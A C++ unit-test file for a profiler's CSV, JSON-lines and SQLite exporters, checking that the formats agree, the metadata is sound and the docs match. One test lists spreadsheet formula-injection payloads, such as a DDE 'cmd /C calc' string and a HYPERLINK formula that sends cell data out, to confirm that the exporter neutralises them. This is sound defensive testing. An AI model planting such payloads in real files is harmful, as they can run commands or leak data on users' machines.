/// Tables: CSV, JSON lines and SQLite have the same contents; the document describes the file; the table of formats is
/// complete.
#include "waymark/exports/tables.h"

#include <sqlite3.h>

#include <algorithm>
#include <fstream>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>

#include "exports/some_answers.h"
#include "exports/tools.h"
#include "waymark/exports/sqlite.h"

namespace waymark::exports {
namespace {

using nlohmann::json;
using support::random_answers;
using support::run;
using support::sampled_answers;
using support::small_answers;
using support::written;

std::string csv(const answers::Answers& a, std::string_view table) {
    return written([&](ByteSink& sink) -> Result<ExportReport> { return write_csv(a, *find_table(table), sink); }).text;
}
std::vector<json> jsonl(const answers::Answers& a, const TableInfo& table) {
    const auto out = written([&](ByteSink& sink) -> Result<ExportReport> { return write_jsonl(a, table, sink); });
    std::istringstream lines(out.text);
    std::vector<json> rows;
    for (std::string line; std::getline(lines, line);) rows.push_back(json::parse(line));
    return rows;
}

/// Fields of CSV, quotes undone.
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
    std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted && c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
            rows.back().back() += '"';
            ++i;
        } else if (c == '"') {
            quoted = !quoted;
        } else if (!quoted && c == ',') {
            rows.back().emplace_back();
        } else if (!quoted && c == '\n') {
            rows.emplace_back(1);
        } else {
            rows.back().back() += c;
        }
    }
    rows.pop_back();
    return rows;
}

TEST(Csv, Rows) {
    const auto answers = small_answers();
    EXPECT_EQ(csv(answers, "blocks").substr(0, 71),
              "address,bytes,instructions,function,times\n0x8000,8,2,0,1\n0x8004,4,1,0,1");
    EXPECT_EQ(csv(answers, "unit_cells"),
              "unit_table,row_number,column_number,column_name,value\n0,0,0,task,\"a,b \"\"c\"\"\"\n0,0,1,times,3\n");
    const std::string functions = csv(answers, "functions");
    EXPECT_NE(functions.find("\n1,\"sort(int*, int)\",_Z4sortPii,0,0x8010,24,0,20,0,2,19,40\n"), std::string::npos)
        << functions;
    EXPECT_NE(functions.find("\n3,[interrupt 6],,,,,,,1,1,6,6\n"), std::string::npos) << functions;
    EXPECT_EQ(csv({}, "edges"), "from_address,to_address,from_function,to_function,kind,times\n");
}

TEST(Csv, NoCellIsAFormula) {
    const std::vector<std::string> hostile = {"=1+1",
                                              "=HYPERLINK(\"http://a/\"&A1,\"b\")",
                                              "+cmd|' /C calc'!A0",
                                              "-2+3+cmd|' /C calc'!A0",
                                              "@SUM(1+9)",
                                              "\tx",
                                              "\r=1",
                                              "\n=1",
                                              " =1",
                                              "\xef\xbc\x9d"
                                              "1",
                                              "'=1",
                                              "-",
                                              "-1-1",
                                              "+.",
                                              "=",
                                              "-[Class method:]"};
    const std::vector<std::string> harmless = {"main", "a=1", "-5", "+12.5", "-.5", "operator-(A, B)", "", " x", "3 %"};
    answers::Answers answers;
    for (const auto* texts : {&hostile, &harmless})
        for (const std::string& text : *texts) answers.sources.push_back({text, {}});
    const auto rows = parse_csv(csv(answers, "sources"));
    ASSERT_EQ(rows.size(), 1 + hostile.size() + harmless.size());
    for (std::size_t i = 0; i < hostile.size(); ++i) EXPECT_EQ(rows[1 + i][1], "'" + hostile[i]);
    for (std::size_t i = 0; i < harmless.size(); ++i) EXPECT_EQ(rows[1 + hostile.size() + i][1], harmless[i]);
    // By rule, no cell of text begins like a formula, quoted or not.
    for (const auto& row : rows) {
        const std::string& cell = row[1];
        if (cell.empty() || std::find(harmless.begin(), harmless.end(), cell) != harmless.end()) continue;
        EXPECT_EQ(std::string("=+-@\t\r\n").find(cell[0]), std::string::npos) << cell;
    }
}

TEST(Tables, CsvAndJsonSayTheSame) {
    for (const auto& answers : {small_answers(), sampled_answers(), random_answers(2, 300), answers::Answers{}})
        for (const TableInfo& table : tables()) {
            SCOPED_TRACE(table.name);
            const auto rows = jsonl(answers, table);
            const auto fields = parse_csv(csv(answers, table.name));
            ASSERT_EQ(fields.size(), rows.size() + 1);
            for (std::size_t r = 0; r < rows.size(); ++r) {
                ASSERT_EQ(rows[r].size(), table.columns.size());
                ASSERT_EQ(fields[r + 1].size(), table.columns.size());
                for (std::size_t c = 0; c < table.columns.size(); ++c) {
                    const json& value = rows[r].at(std::string(table.columns[c].name));
                    const std::string& field = fields[r + 1][c];
                    if (value.is_null()) {
                        EXPECT_EQ(field, "");
                    } else if (value.is_number()) {
                        EXPECT_EQ(std::stod(field), value.get<double>());
                    } else if (field.find('\xff') == field.npos) {
                        // The apostrophe that prevents execution as a formula is not part of the text.
                        EXPECT_EQ(field.starts_with('\'') ? field.substr(1) : field, value.get<std::string>());
                    }
                    EXPECT_TRUE(c != 0 || !table.has_id || value == r);
                }
            }
        }
}

TEST(Tables, NamesAreOnceAndReferencesLead) {
    std::set<std::string_view> names;
    for (const TableInfo& table : tables()) {
        EXPECT_TRUE(names.insert(table.name).second) << table.name;
        std::set<std::string_view> columns;
        for (const Column& column : table.columns) {
            EXPECT_TRUE(columns.insert(column.name).second) << column.name;
            EXPECT_FALSE(column.what.empty());
            if (column.refers.empty()) continue;
            const std::size_t dot = column.refers.find('.');
            const TableInfo* to = find_table(column.refers.substr(0, dot));
            ASSERT_NE(to, nullptr) << column.refers;
            EXPECT_EQ(to->columns[0].name, column.refers.substr(dot + 1));
        }
    }
}

TEST(Formats, NamesAreOnceAndWhole) {
    std::set<std::string_view> names;
    for (const Format& f : formats()) {
        EXPECT_TRUE(names.insert(f.name).second);
        EXPECT_FALSE(f.what.empty() || f.opens.empty() || f.needs.empty() || f.extension.empty()) << f.name;
        EXPECT_EQ(find_format(f.name), &f);
    }
    EXPECT_EQ(names.size(), 17U);
    EXPECT_EQ(find_format("ctf"), nullptr);
}

TEST(Formats, TheDocumentHasEachWithItsViewer) {
    std::ifstream in(WAYMARK_SOURCE_DIR "/docs/exports.md");
    std::ostringstream document;
    document << in.rdbuf();
    for (const Format& f : formats()) {
        const std::string row = "| `" + std::string(f.name) + "` | " + std::string(f.what) + " | " +
                                std::string(f.opens) + " | " + std::string(f.needs) + " |\n";
        EXPECT_NE(document.str().find(row), std::string::npos) << row;
    }
}

TEST(Metrics, ByNameOrPart) {
    const auto a = sampled_answers();
    EXPECT_EQ(*exports::find_metric(a, ""), 0U);
    EXPECT_EQ(*exports::find_metric(a, "latency cycles"), 1U);
    EXPECT_EQ(*exports::find_metric(a, "latency"), 1U);
    ASSERT_FALSE(exports::find_metric(a, "a"));
    EXPECT_NE(exports::find_metric(a, "x").error().message.find("samples, latency cycles"), std::string::npos);
    EXPECT_FALSE(exports::find_metric({}, ""));
}

// ---- SQLite

class Sqlite : public testing::Test {
protected:
    std::filesystem::path write(const answers::Answers& a, const char* name = "answers.sqlite") {
        const auto path = folder_.path() / name;
        const auto report = write_sqlite(a, path);
        EXPECT_TRUE(report) << (report ? "" : report.error().message);
        EXPECT_TRUE(!report || report->bytes == std::filesystem::file_size(path));
        return path;
    }
    /// Rows as text, `|` between values, as the shell prints them.
    static std::string select(const std::filesystem::path& path, const std::string& sql) {
        sqlite3* db = nullptr;
        EXPECT_EQ(sqlite3_open_v2(path.c_str(), &db, SQLITE_OPEN_READONLY, nullptr), SQLITE_OK);
        std::string out;
        char* error = nullptr;
        sqlite3_exec(
            db, sql.c_str(),
            [](void* to, int count, char** values, char**) {
                for (int i = 0; i < count; ++i)
                    *static_cast<std::string*>(to) += std::string(i == 0 ? "" : "|") + (values[i] ? values[i] : "");
                *static_cast<std::string*>(to) += "\n";
                return 0;
            },
            &out, &error);
        EXPECT_EQ(error, nullptr) << sql << ": " << (error != nullptr ? error : "");
        sqlite3_free(error);
        sqlite3_close(db);
        return out;
    }
    TemporaryFolder folder_;
};

TEST_F(Sqlite, Answers) {
    const auto file = write(small_answers());
    EXPECT_EQ(select(file, "SELECT name, self, inclusive, percent FROM hot_functions"),
              "sort(int*, int)|19|40|41.3\ncompare|15|15|32.6\nmain|6|46|13.0\n[interrupt 6]|6|6|13.0\n");
    EXPECT_EQ(select(file, "SELECT path, line, seen FROM uncovered_lines"),
              "/src/sort.c|25|not observed\n/src/sort.c|44|not executed\n");
    EXPECT_EQ(select(file, "SELECT track, length, function FROM activity ORDER BY length DESC LIMIT 2"),
              "core 0|57|main\ncore 0|24|sort(int*, int)\n");
    EXPECT_EQ(select(file,
                     "SELECT m.name, c.self FROM function_costs c JOIN metrics m ON m.id = c.metric "
                     "JOIN functions f ON f.id = c.function WHERE f.name = 'compare'"),
              "instructions|15\ncycles|16\n");
    EXPECT_EQ(select(file, "SELECT refers_to, what FROM schema WHERE table_name='edges' AND column_name='to_function'"),
              "functions.id|function to which the branch led\n");
    for (const ExampleQuery& example : example_queries()) static_cast<void>(select(file, std::string(example.sql)));
}

TEST_F(Sqlite, EveryRowOfEveryTable) {
    auto answers = random_answers(9, 3000);
    answers.functions[0].address = 0xffff'0000'0000'1000;  // a kernel's
    const auto file = write(answers);
    for (const TableInfo& table : tables()) {
        SCOPED_TRACE(table.name);
        const auto rows = jsonl(answers, table);
        EXPECT_EQ(select(file, "SELECT count(*) FROM " + std::string(table.name)), std::to_string(rows.size()) + "\n");
        for (const Column& c : table.columns) {
            if (c.type != Column::Type::integer) continue;
            std::uint64_t sum = 0;
            for (const json& row : rows)
                if (const json& v = row.at(std::string(c.name)); !v.is_null()) sum += v.get<std::uint64_t>();
            EXPECT_EQ(
                select(file, "SELECT coalesce(sum(" + std::string(c.name) + "), 0) FROM " + std::string(table.name)),
                std::to_string(sum) + "\n")
                << c.name;
        }
    }
    EXPECT_EQ(select(file, "SELECT printf('%x', address) FROM functions WHERE id = 0"), "ffff000000001000\n");
}

TEST_F(Sqlite, TheShellFindsItWhole) {
    WM_NEEDS_TOOL("sqlite3");
    const auto file = write(small_answers());
    EXPECT_EQ(run("sqlite3 " + shell_word(file) + " 'pragma integrity_check'").output, "ok\n");
    EXPECT_NE(run("sqlite3 " + shell_word(file) + " '.schema edges'")
                  .output.find("-- function to which the branch led → functions.id"),
              std::string::npos);
}

TEST_F(Sqlite, NeverIntoAFileThatIsThere) {
    const auto file = folder_.write("there", std::string_view("text"));
    const auto report = write_sqlite(small_answers(), file);
    ASSERT_FALSE(report);
    EXPECT_EQ(report.error().code, Errc::usage);
    EXPECT_FALSE(write_sqlite(small_answers(), folder_.path() / "nowhere" / "file"));
}

TEST(SchemaDocument, SaysWhatIsWritten) {
    const std::string path = WAYMARK_SOURCE_DIR "/docs/sqlite-schema.md";
    if (std::getenv("WM_UPDATE_APPROVED") != nullptr) std::ofstream(path) << sqlite_document();
    std::ifstream in(path);
    std::ostringstream text;
    text << in.rdbuf();
    EXPECT_EQ(text.str(), sqlite_document()) << "run with WM_UPDATE_APPROVED=1, then read the difference";
}

}  // namespace
}  // namespace waymark::exports
